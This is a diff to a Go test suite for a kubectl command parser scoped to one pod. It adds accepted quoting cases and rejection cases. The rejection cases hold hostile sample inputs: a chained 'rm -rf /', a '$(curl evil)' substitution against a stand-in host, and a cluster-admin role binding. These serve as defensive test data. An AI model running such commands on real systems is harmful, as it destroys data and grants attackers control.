@@ -15,6 +15,8 @@ func TestTheShellRunsWhatUsesThePodOfTheRequest(t *testing.T) {
 		"kubectl logs -fp --tail 10 web-1":                                  "logs --namespace=shop --follow=true --previous=true --tail=10 pod/web-1",
 		"kubectl port-forward pods/web-1 8080:80 9090":                      "port-forward --namespace=shop pod/web-1 8080:80 9090",
 		"kubectl debug -ti web-1 --image=busybox --target=app":              "debug --namespace=shop --image=busybox --stdin=true --target=app --tty=true pod/web-1",
+		"kubectl get pod web-1 -o jsonpath={.status.phase}":                 "get --namespace=shop --output=jsonpath={.status.phase} pod/web-1",
+		`kubectl exec web-1 -- sh -c "echo \"a b\" \n" c\ d 'e'f ''`:        "exec --namespace=shop pod/web-1 -- sh -c echo \"a b\" \\n c d ef ",
 		"kubectl get pod web-1 -o name":                                     "get --namespace=shop --output=name pod/web-1",
 		"kubectl exec web-1 -- sh -c 'kubectl create clusterrolebinding x'": "exec --namespace=shop pod/web-1 -- sh -c kubectl create clusterrolebinding x",
 	} {
@@ -34,6 +36,9 @@ func TestTheShellDoesNothingElseForATemplatesAuthor(t *testing.T) {
 		"another program":                    "sh -c 'kubectl exec web-1'",
 		"nothing":                            "",
 		"kubectl alone":                      "kubectl",
+		"another command":                    "kubectl exec web-1 -- sh; rm -rf /",
+		"what a shell would expand":          "kubectl exec web-1 -- sh -c \"$(curl evil)\"",
+		"a backslash at the end":             `kubectl exec web-1 -- sh \`,
 		"a quote that does not end":          "kubectl exec web-1 -- 'sh",
 		"a right for the author":             "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=mallory",
 		"a plugin":                           "kubectl evil web-1",
